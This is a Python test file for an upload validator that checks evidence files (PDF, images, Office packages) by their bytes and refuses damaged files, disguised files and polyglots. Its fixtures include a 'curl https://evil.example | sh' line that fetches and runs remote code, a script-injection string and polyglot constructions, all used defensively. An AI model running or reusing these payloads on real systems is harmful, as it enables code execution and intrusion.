"""Evidence files: types from the bytes, damaged files, polyglots and the size limits; and,
for any bytes, a file refused or accepted, never an error. What an Office package may hold
(zip bombs, macros, unsafe names) is in test_evidence_packages.py, the names a file is stored
and served under in test_evidence_names.py."""

from __future__ import annotations

import hashlib
import io
import unicodedata
import zipfile

import pytest

from marks.applying import evidence
from marks.applying.evidence import (
    ACCEPTED,
    CheckedFile,
    EvidenceRefused,
    check,
    content_disposition,
)
from tests.unit.evidence_samples import (
    MB,
    OPENXML,
    SAMPLES,
    content_types,
    make_jpeg,
    make_ooxml,
    make_pdf,
    make_pe,
    make_png,
    make_zip,
    png_chunk,
    refused,
)

# Accepted types ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "content_type", "filename"),
    [
        ("pdf", "application/pdf", "Annual report.pdf"),
        ("png", "image/png", "Annual report.png"),
        ("jpeg", "image/jpeg", "Annual report.jpg"),
        ("docx", OPENXML + "wordprocessingml.document", "Annual report.docx"),
        ("xlsx", OPENXML + "spreadsheetml.sheet", "Annual report.xlsx"),
        ("pptx", OPENXML + "presentationml.presentation", "Annual report.pptx"),
    ],
)
def test_each_accepted_type_passes_with_its_canonical_type_and_extension(
    kind, content_type, filename
):
    content = SAMPLES[kind]
    result = check("Annual report.bin", content)
    assert result == CheckedFile(
        filename=filename,
        content_type=content_type,
        size_bytes=len(content),
        sha256=hashlib.sha256(content).hexdigest(),
        content=content,
    )
    assert ACCEPTED[kind].content_type == content_type


def test_the_name_and_its_extension_do_not_decide_the_type():
    assert check("photo.png", SAMPLES["pdf"]).filename == "photo.pdf"
    assert check("report.exe", SAMPLES["pdf"]).content_type == "application/pdf"
    assert check("slides.docx", SAMPLES["pptx"]).filename == "slides.pptx"


def test_a_jpeg_may_end_in_zero_padding():
    assert check("p.jpg", make_jpeg() + bytes(64)).content_type == "image/jpeg"


def test_a_docx_with_an_embedded_workbook_and_ole_object_passes():
    docx = make_ooxml(
        "docx",
        [
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", SAMPLES["xlsx"]),
            ("word/embeddings/oleObject1.bin", bytes(range(256)) * 4),
        ],
    )
    assert check("a.docx", docx).content_type == ACCEPTED["docx"].content_type


# Wrong types ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        # a renamed Windows executable
        ("report.pdf", make_pe() + bytes(512), evidence.unreadable("PDF")),
        (
            "report.pdf",
            b"#!/bin/sh\ncurl https://evil.example | sh\n%%EOF\n",
            evidence.unreadable("PDF"),
        ),
        (
            "chart.png",
            b"<!DOCTYPE html><html><script>alert(1)</script></html>",
            evidence.unreadable("PNG image"),
        ),
        ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), evidence.WRONG_TYPE),
        # the header must be at offset 0
        ("notes.pdf", b" %PDF-1.7\n%%EOF\n", evidence.unreadable("PDF")),
        ("data.xlsx", b"\x7fELF\x02\x01\x01" + bytes(57), evidence.unreadable("Excel spreadsheet")),
        ("notes.txt", b"just some words", evidence.WRONG_TYPE),
    ],
)
def test_content_that_is_not_an_accepted_type_is_refused(filename, content, message):
    assert refused(filename, content) == message


def test_a_name_that_promises_an_accepted_type_is_told_the_file_could_not_be_read():
    assert refused("Minutes.PDF", b"this was a PDF once") == (
        "The selected file could not be read as a PDF. Check that it opens, save it again "
        "and upload the new copy"
    )


def test_a_zip_that_is_not_office_open_xml_is_refused():
    assert refused("a.zip", make_zip(("readme.txt", b"hello"))) == evidence.WRONG_TYPE
    word = evidence.unreadable("Word document")
    assert refused("a.docx", make_zip(("readme.txt", b"hello"))) == word
    no_main = make_zip(("[Content_Types].xml", content_types()), ("word/other.xml", b"<x/>"))
    assert refused("a.docx", no_main) == word
    no_types = make_zip(("word/document.xml", b"<x/>"))
    assert refused("a.docx", no_types) == word
    assert refused("a.docx", make_zip()) == word


def test_a_package_that_is_both_a_document_and_a_workbook_is_refused():
    both = make_ooxml("docx", [("xl/workbook.xml", b"<workbook/>")])
    assert refused("a.docx", both) == evidence.DAMAGED_OFFICE


# Damaged files ----------------------------------------------------------------------------


def test_damaged_files_are_refused():
    assert refused("a.pdf", make_pdf().replace(b"%%EOF", b"%%EOX")) == (
        "The selected file is damaged or not a real PDF"
    )
    png_message = "The selected file is damaged or not a real PNG image"
    png = make_png()
    assert refused("a.png", png[:-6]) == png_message  # truncated
    assert refused("a.png", png[:30] + b"\x00" + png[31:]) == png_message  # bad IHDR CRC
    assert refused("a.png", png + b"trailing") == png_message
    assert refused("a.png", png[:8] + png_chunk(b"IDAT", b"x") + png[8:]) == png_message
    assert check("a.png", png + bytes(16)).content_type == "image/png"
    assert refused("a.jpg", make_jpeg()[:-2]) == (
        "The selected file is damaged or not a real JPEG image"
    )
    docx = SAMPLES["docx"]
    assert refused("a.docx", docx[: len(docx) // 2]) == evidence.DAMAGED_OFFICE


def test_a_corrupted_part_fails_its_crc_and_is_refused():
    # Stored, not deflated, so that one byte of the part's data can be changed in place.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("[Content_Types].xml", content_types())
        zf.writestr("word/document.xml", b"<document>" + b"evidence" * 10 + b"</document>")
    stored = buffer.getvalue()
    corrupted = stored.replace(b"evidence" * 10, b"evidencf" + b"evidence" * 9)
    assert check("a.docx", stored).content_type == ACCEPTED["docx"].content_type
    assert refused("a.docx", corrupted) == evidence.DAMAGED_OFFICE


# Polyglots --------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["png", "pdf", "jpeg"])
def test_an_image_or_pdf_with_a_zip_appended_is_refused(kind):
    polyglot = SAMPLES[kind] + make_zip(("payload.js", b"WScript.Echo(1)"))
    assert refused("a.bin", polyglot) == evidence.HIDDEN


def test_a_pdf_with_a_zip_inside_a_stream_is_refused():
    pdf = make_pdf(stream=SAMPLES["docx"])
    assert refused("a.pdf", pdf) == evidence.HIDDEN


def test_a_pdf_carrying_a_windows_program_is_refused():
    assert refused("a.pdf", make_pdf(stream=bytes(100) + make_pe() + bytes(100))) == (
        evidence.HIDDEN
    )


def test_an_image_that_a_pdf_reader_would_open_is_refused():
    png = make_png(png_chunk(b"tEXt", b"Comment\x00%PDF-1.4 1 0 obj"))
    assert refused("a.png", png) == evidence.HIDDEN


def test_a_zip_with_data_before_it_is_refused():
    docx = SAMPLES["docx"]
    # A non-zip prefix is simply not an accepted type.
    assert refused("a.gif", b"GIF89a" + bytes(32) + docx) == evidence.WRONG_TYPE
    # zipfile would open this one, finding the real archive after a fake local header.
    prefixed = b"PK\x03\x04" + bytes(60) + docx
    with zipfile.ZipFile(io.BytesIO(prefixed)) as zf:
        assert "word/document.xml" in zf.namelist()
    assert refused("a.docx", prefixed) == evidence.HIDDEN


def test_a_zip_with_data_after_its_end_record_is_refused():
    docx = SAMPLES["docx"]
    assert refused("a.docx", docx + b"<script>alert(1)</script>") == evidence.HIDDEN
    assert refused("a.docx", docx + SAMPLES["pdf"]) == evidence.HIDDEN


# Sizes ------------------------------------------------------------------------------------


def test_an_empty_file_is_refused():
    assert refused("a.pdf", b"") == "The selected file is empty"


def test_a_file_over_the_per_file_limit_is_refused():
    pdf = make_pdf()
    assert check("a.pdf", pdf, max_file_bytes=len(pdf)).size_bytes == len(pdf)
    assert refused("a.pdf", pdf, max_file_bytes=len(pdf) - 1) == (
        f"The selected file must be smaller than {len(pdf) - 1} bytes"
    )
    assert refused("a.pdf", bytes(3 * 1024), max_file_bytes=2 * 1024) == (
        "The selected file must be smaller than 2KB"
    )


def test_a_file_that_would_take_the_application_over_its_limit_is_refused():
    pdf = make_pdf()
    stored = evidence.MAX_APPLICATION_BYTES - len(pdf)
    assert check("a.pdf", pdf, already_stored_bytes=stored).size_bytes == len(pdf)
    assert refused("a.pdf", pdf, already_stored_bytes=stored + 1) == (
        "Adding this file would take your application's evidence over 50MB. "
        "Remove a file you no longer need, or make this one smaller"
    )
    message = refused("a.pdf", pdf, already_stored_bytes=900, max_application_bytes=1024)
    assert message.startswith("Adding this file would take your application's evidence over 1KB")


def test_the_default_limits():
    assert evidence.MAX_FILE_BYTES == 10 * MB
    assert evidence.MAX_APPLICATION_BYTES == 50 * MB


# Properties -------------------------------------------------------------------------------

hypothesis = pytest.importorskip("hypothesis")
st = hypothesis.strategies
ACCEPTED_TYPES = {kind.content_type for kind in ACCEPTED.values()}
FUZZ = hypothesis.settings(max_examples=300, deadline=None, database=None)


def refused_or_accepted(filename: str, content: bytes) -> CheckedFile | None:
    try:
        result = check(filename, content)
    except EvidenceRefused as error:
        assert str(error)
        return None
    assert result.content_type in ACCEPTED_TYPES
    assert result.content == content
    return result


@FUZZ
@hypothesis.given(st.binary(max_size=4096), st.text(max_size=200))
def test_arbitrary_bytes_are_refused_or_accepted_never_an_error(content, filename):
    refused_or_accepted(filename, content)


@FUZZ
@hypothesis.given(
    st.sampled_from(sorted(SAMPLES)),
    st.lists(st.tuples(st.integers(min_value=0), st.integers(0, 255)), max_size=6),
    st.integers(min_value=0),
)
def test_damaged_samples_are_refused_or_accepted_never_an_error(kind, flips, cut):
    content = bytearray(SAMPLES[kind])
    for position, value in flips:
        content[position % len(content)] = value
    if cut % 3 == 0:
        del content[cut % len(content) :]
    refused_or_accepted("sample", bytes(content))


@FUZZ
@hypothesis.given(st.text(max_size=400))
def test_any_filename_becomes_a_safe_display_name(filename):
    name = check(filename, SAMPLES["png"]).filename
    assert name.endswith(".png") and 5 <= len(name) <= 120
    assert "/" not in name and "\\" not in name
    assert unicodedata.is_normalized("NFC", name)
    assert not any(unicodedata.category(c) in {"Cc", "Cf", "Cs"} for c in name)
    assert name == name.strip() and "  " not in name
    assert content_disposition(name).isascii()
